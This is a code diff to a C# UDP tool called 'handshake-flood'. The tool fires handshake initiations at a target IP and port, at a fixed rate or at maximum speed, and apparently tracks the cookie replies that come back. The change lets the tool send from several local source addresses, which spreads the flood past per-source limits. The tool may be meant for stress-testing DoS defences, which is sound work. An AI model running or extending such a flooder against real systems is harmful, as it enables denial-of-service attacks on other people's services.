@@ -9,7 +9,7 @@ using HandshakeFlood;
 if (!FloodOptions.TryParse(args, out FloodOptions? options, out string? error))
 {
     Console.Error.WriteLine(error);
-    Console.Error.WriteLine("usage: handshake-flood --target IP:PORT --public-key BASE64 [--rate N/s (0 = as fast as possible)] [--seconds S] [--ports N]");
+    Console.Error.WriteLine("usage: handshake-flood --target IP:PORT --public-key BASE64 [--rate N/s (0 = as fast as possible)] [--seconds S] [--ports N] [--source-base IPv4 --source-count N]");
     return 2;
 }
 
@@ -17,7 +17,9 @@ var sockets = new Socket[options.Ports];
 for (int i = 0; i < sockets.Length; i++)
 {
     sockets[i] = new Socket(options.Target.AddressFamily, SocketType.Dgram, ProtocolType.Udp) { Blocking = false };
-    sockets[i].Bind(new IPEndPoint(options.Target.AddressFamily == AddressFamily.InterNetwork ? IPAddress.Any : IPAddress.IPv6Any, 0));
+    IPAddress local = options.Sources.Length > 0 ? options.Sources[i % options.Sources.Length]
+        : options.Target.AddressFamily == AddressFamily.InterNetwork ? IPAddress.Any : IPAddress.IPv6Any;
+    sockets[i].Bind(new IPEndPoint(local, 0));
 }
 var maker = new InitiationMaker(options.PublicKey);
 var destination = options.Target.Serialize();
@@ -68,7 +70,7 @@ while (clock.ElapsedTicks < end)
         Thread.Sleep(1);
 }
 double seconds = clock.Elapsed.TotalSeconds;
-Console.WriteLine($"sent {sent} initiations in {seconds:F1} s ({sent / seconds:F0}/s) from {sockets.Length} ports; {refused} refused by the local socket; {repliesSeen} cookie replies seen");
+Console.WriteLine($"sent {sent} initiations in {seconds:F1} s ({sent / seconds:F0}/s) from {sockets.Length} ports on {Math.Max(1, options.Sources.Length)} address(es); {refused} refused by the local socket; {repliesSeen} cookie replies seen");
 foreach (var socket in sockets)
     socket.Dispose();
 return 0;
